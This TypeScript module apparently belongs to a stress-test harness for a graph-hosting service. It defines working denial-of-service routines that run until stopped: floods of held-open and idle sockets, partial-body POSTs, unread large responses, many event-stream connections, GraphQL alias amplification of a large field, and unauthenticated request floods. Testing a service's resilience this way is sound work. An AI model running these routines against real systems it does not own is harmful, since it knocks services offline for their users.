/** What costs a caller little, done as often as it can be, until the signal; none of it has a key. */

import { connect, type Socket } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'

export interface Target {
  readonly url: URL
  /** The graph_id of a graph of nearly 10 MB, mostly `<`. */
  readonly large: string
}

/** Goes on until the signal, then ends everything it opened. */
export type Attack = (target: Target, signal: AbortSignal) => Promise<void>

/** Keeps so many connections open, opening another for each that is closed; each says this first. */
const connections =
  (count: number, say: (target: Target) => string, read = false): Attack =>
  async (target, signal) => {
    const open = new Set<Socket>()
    while (!signal.aborted) {
      while (open.size < count && !signal.aborted) open.add(oneConnection(target, say(target), read, open))
      await pause(100)
    }
    for (const socket of open) socket.destroy()
  }

function oneConnection({ url }: Target, text: string, read: boolean, open: Set<Socket>): Socket {
  const socket = connect(Number(url.port), url.hostname)
  socket.on('error', () => {}).once('close', () => open.delete(socket))
  if (read) socket.resume()
  else socket.pause()
  socket.write(text)
  return socket
}

/** Asks so many times at once, and again. */
const requests =
  (atOnce: number, ask: (target: Target) => [path: string, init?: RequestInit]): Attack =>
  async (target, signal) => {
    const [path, init] = ask(target)
    const one = async () => {
      while (!signal.aborted) {
        await fetch(new URL(path, target.url), { ...init, signal })
          .then(answer => answer.arrayBuffer())
          .catch(() => pause(10))
      }
    }
    await Promise.all(Array.from({ length: atOnce }, one))
  }

const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: siege\r\n\r\n`
const post = (path: string, length: number, begin: string) =>
  `POST ${path} HTTP/1.1\r\nHost: siege\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n${begin}`

const aliases = (graphId: string) =>
  `{${Array.from({ length: 30 }, (_, i) => `a${i}: graph(id: "${graphId}") { dataText }`).join(' ')}}`

export const attacks: Readonly<Record<string, Attack>> = {
  'unread files': connections(60, ({ large }) => get(`/p/${large}.json`)),
  'unread answers': connections(60, ({ large }) => get(`/v1/graph/${large}`)),
  'half a body': connections(300, () => post('/graphql', 200_000, ' '.repeat(100_000))),
  'idle connections': connections(2_500, () => ''),
  followers: connections(800, ({ large }) => get(`/p/${large}/events`), true),
  'pages of <': requests(40, ({ large }) => [`/p/${large}`]),
  'aliases of dataText': requests(4, ({ large }) => [
    '/graphql',
    {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify({ query: aliases(large) }),
    },
  ]),
  'unknown keys': requests(40, () => [
    '/v1/graph',
    {
      method: 'POST',
      headers: { Authorization: 'Bearer pg_nobody', 'Content-Type': 'application/json' },
      body: '{"data": []}',
    },
  ]),
}
